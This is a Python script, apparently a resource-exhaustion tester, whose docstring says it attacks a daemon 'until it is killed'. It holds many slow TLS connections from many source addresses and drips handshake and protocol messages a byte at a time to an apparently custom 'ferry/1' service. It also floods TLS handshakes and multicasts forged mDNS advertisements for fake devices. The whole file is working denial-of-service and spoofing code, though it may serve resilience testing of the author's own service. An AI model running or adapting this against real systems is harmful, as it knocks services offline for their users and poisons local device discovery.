"""Attacks a daemon at its door, from many addresses of one host, until it is killed.

Usage: siege.py TARGET PORT FIRST-ADDRESS ADDRESSES CERTIFICATE KIND AMOUNT [KIND AMOUNT ...]
AMOUNT connections are kept in one state; what the other side ends begins again, and until it is gone altogether goes on:
  silent      connected, and says nothing
  hello       a byte of the ClientHello from time to time
  finished    a byte from time to time of what follows the server's Finished
  late        ends its handshake after eight seconds, and says nothing more
  greeting    has ended its handshake, and says nothing
  record      a byte from time to time of the record with the first message
  opening     a byte from time to time of the first message, each in a record of its own
  step        the same of the second message
  ready       the same of the last message before it is let in
  offering    let in as a stranger, a byte from time to time of what it might offer
  chatting    let in as a stranger, asks from time to time whether the other side is there, and offers nothing
From time to time is every second for one half of them and every nine seconds for the other. Or AMOUNT a second:
  handshakes  TLS handshakes that are made and left
  adverts     devices that are announced
CERTIFICATE: PEM with a P-256 key.
Prints "begun" when the first blow of each kind has landed, then each second one object: for each kind how many were tried, how many came into their state ("reached"),
and of those that the other side ended the longest life in seconds, from connected to the other side's end.
"""
import asyncio, hashlib, itertools, json, os, random, resource, socket, ssl, struct, sys, time

target, port, first, count, certificate = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
orders = list(zip(sys.argv[6::2], map(int, sys.argv[7::2])))
start = struct.unpack(">I", socket.inet_aton(first))[0]
addresses = itertools.cycle(socket.inet_ntoa(struct.pack(">I", start + i)) for i in range(count))
figures = {kind: {"tried": 0, "reached": 0, "longest": 0.0} for kind, _ in orders}
GONE = 30
LATE = 8
CELL = 16384


class Ended(Exception):
    """The other side has ended it."""


def context():
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.minimum_version = ssl.TLSVersion.TLSv1_3
    made.set_alpn_protocols(["ferry/1"])
    made.load_cert_chain(certificate)
    return made


tls = context()
with open(certificate) as pem:
    own = ssl.PEM_cert_to_DER_cert("-----BEGIN CERTIFICATE-----" + pem.read().split("-----BEGIN CERTIFICATE-----")[1])


def field(number, value):
    if isinstance(value, int):
        return bytes([number << 3, value])
    return bytes([number << 3 | 2, len(value)]) + value


def frame(message, body):
    control = b"\x01" + field(message, body)
    return struct.pack(">I", len(control)) + control


def cell(frames):
    return struct.pack(">H", len(frames)) + frames + bytes(CELL - 2 - len(frames))


class Stranger:
    """One connection, with a TLS of its own making, so that any byte of it can be kept back."""

    def __init__(self, reader, writer, pause):
        self.reader, self.writer, self.pause = reader, writer, pause
        self.came, self.goes = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.engine = tls.wrap_bio(self.came, self.goes)

    def send(self, data):
        self.writer.write(data)

    async def receive(self):
        data = await self.reader.read(65536)
        if not data:
            raise Ended()
        self.came.write(data)

    def said(self):
        """What the engine would send now."""
        return self.goes.read()

    async def drip(self, pieces):
        for piece in pieces:
            self.send(piece)
            await self.quiet(self.pause)
        await self.quiet(None)

    async def quiet(self, seconds):
        """Listens for so long, or for good."""
        end = None if seconds is None else time.monotonic() + seconds
        while True:
            try:
                data = await asyncio.wait_for(self.reader.read(65536), None if end is None else max(0, end - time.monotonic()))
            except asyncio.TimeoutError:
                return
            if not data:
                raise Ended()

    def bytes_of(self, data):
        return (bytes([byte]) for byte in data)

    def records_of(self, data):
        for byte in data:
            self.engine.write(bytes([byte]))
            yield self.said()

    def client_hello(self):
        try:
            self.engine.do_handshake()
        except ssl.SSLWantReadError:
            return self.said()

    async def server_finished(self):
        """Up to what the client has to say last; that."""
        self.send(self.client_hello())
        while True:
            await self.receive()
            try:
                self.engine.do_handshake()
                return self.said()
            except ssl.SSLWantReadError:
                self.send(self.said())

    async def handshake(self):
        self.send(await self.server_finished())

    async def answer(self):
        while True:
            try:
                if not self.engine.read(65536):
                    raise Ended()
                return
            except ssl.SSLWantReadError:
                await self.receive()

    def opening(self):
        self.nonce = os.urandom(32)
        digest = lambda data: hashlib.sha256(data).digest()
        binding = digest(b"ferry-bind-v1" + digest(own) + digest(self.engine.getpeercert(True)))
        commitment = digest(b"ferry-words-commit-v1" + binding + self.nonce)
        return frame(1, field(1, bytes([1])) + field(2, 4) + field(3, 2) + field(5, commitment))

    def step(self):
        return frame(3, field(1, self.nonce))

    def ready(self):
        return frame(4, field(1, b"a stranger with a name of a length that takes it a minute to say"[:64]))

    def say(self, data):
        self.engine.write(data)
        self.send(self.said())

    async def let_in(self):
        await self.handshake()
        self.say(self.opening())
        await self.answer()
        self.say(self.step())
        await self.answer()
        self.say(self.ready())


async def silent(it, reached):
    reached()
    await it.quiet(None)


async def hello(it, reached):
    reached()
    await it.drip(it.bytes_of(it.client_hello()))


async def finished(it, reached):
    rest = await it.server_finished()
    reached()
    await it.drip(it.bytes_of(rest))


async def late(it, reached):
    rest = await it.server_finished()
    await it.quiet(LATE)
    it.send(rest)
    reached()
    await it.quiet(None)


async def greeting(it, reached):
    await it.handshake()
    reached()
    await it.quiet(None)


async def record(it, reached):
    await it.handshake()
    reached()
    it.engine.write(it.opening())
    await it.drip(it.bytes_of(it.said()))


async def opening(it, reached):
    await it.handshake()
    reached()
    await it.drip(it.records_of(it.opening()))


async def step(it, reached):
    await it.handshake()
    it.say(it.opening())
    await it.answer()
    reached()
    await it.drip(it.records_of(it.step()))


async def ready(it, reached):
    await it.handshake()
    it.say(it.opening())
    await it.answer()
    it.say(it.step())
    await it.answer()
    reached()
    await it.drip(it.records_of(it.ready()))


async def offering(it, reached):
    await it.let_in()
    reached()
    await it.drip(it.records_of(cell(frame(6, field(1, 1)))))


async def chatting(it, reached):
    await it.let_in()
    reached()
    while True:
        it.say(cell(frame(6, field(1, 1))))
        await it.quiet(it.pause)


async def until_gone(it):
    """Whoever says goodbye may be waiting for an answer, and gets none."""
    for _ in range(GONE):
        it.send(b"\0")
        await asyncio.sleep(1)
        if it.reader.exception() or it.writer.transport.is_closing():
            return


async def keep(kind, pause):
    figure, talk = figures[kind], globals()[kind]
    await asyncio.sleep(random.random())
    while True:
        writer = None
        begun = None

        def reached():
            nonlocal begun
            begun = connected
            figure["reached"] += 1

        try:
            figure["tried"] += 1
            reader, writer = await asyncio.wait_for(asyncio.open_connection(target, port, local_addr=(next(addresses), 0)), 15)
            connected = time.monotonic()
            it = Stranger(reader, writer, pause)
            try:
                await talk(it, reached)
            except (Ended, OSError, ssl.SSLError):
                if begun is not None:
                    figure["longest"] = max(figure["longest"], time.monotonic() - begun)
                    await until_gone(it)
        except (OSError, asyncio.TimeoutError):
            pass
        finally:
            if writer is not None:
                writer.transport.abort()
        await asyncio.sleep(1 + 2 * random.random())


async def handshakes(amount):
    figure = figures["handshakes"]
    running = set()

    async def one():
        figure["tried"] += 1
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(target, port, local_addr=(next(addresses), 0), ssl=tls), 15)
            figure["reached"] += 1
            writer.transport.abort()
        except (OSError, asyncio.TimeoutError):
            pass

    while True:
        began = time.monotonic()
        for _ in range(amount // 20):
            if len(running) < amount:
                task = asyncio.create_task(one())
                running.add(task)
                task.add_done_callback(running.discard)
        await asyncio.sleep(max(0, 0.05 - (time.monotonic() - began)))


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


async def adverts(amount):
    figure = figures["adverts"]
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    out.bind((first, 5353))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(first))
    service = name(b"_ferry", b"_tcp", b"local")
    while True:
        began = time.monotonic()
        for _ in range(amount // 20):
            label = os.urandom(8).hex().encode()
            whole, host = name(label, b"_ferry", b"_tcp", b"local"), name(label, b"local")
            text = b"".join(bytes([len(t)]) + t for t in (b"v=1", b"s=" + os.urandom(8).hex().encode(), b"t=" + os.urandom(96).hex().encode()))
            records = service + struct.pack(">HHIH", 12, 1, 120, len(whole)) + whole \
                + whole + struct.pack(">HHIH", 33, 0x8001, 120, 6 + len(host)) + struct.pack(">HHH", 0, 0, 47900) + host \
                + whole + struct.pack(">HHIH", 16, 0x8001, 120, len(text)) + text \
                + host + struct.pack(">HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(next(addresses))
            out.sendto(struct.pack(">HHHHHH", 0, 0x8400, 0, 4, 0, 0) + records, ("224.0.0.251", 5353))
            figure["tried"] += 1
            figure["reached"] += 1
        await asyncio.sleep(max(0, 0.05 - (time.monotonic() - began)))


async def report():
    begun = False
    while True:
        await asyncio.sleep(0.1 if not begun else 1)
        if not begun and all(figure["reached"] or figure["tried"] > 100 for figure in figures.values()):
            begun = True
            print("begun", flush=True)
        if begun:
            print(json.dumps(figures), flush=True)


async def main():
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    work = [report()]
    for kind, amount in orders:
        if kind in ("handshakes", "adverts"):
            work.append(globals()[kind](amount))
        else:
            work += [keep(kind, 1 if i % 2 else 9) for i in range(amount)]
    await asyncio.gather(*work)

asyncio.run(main())
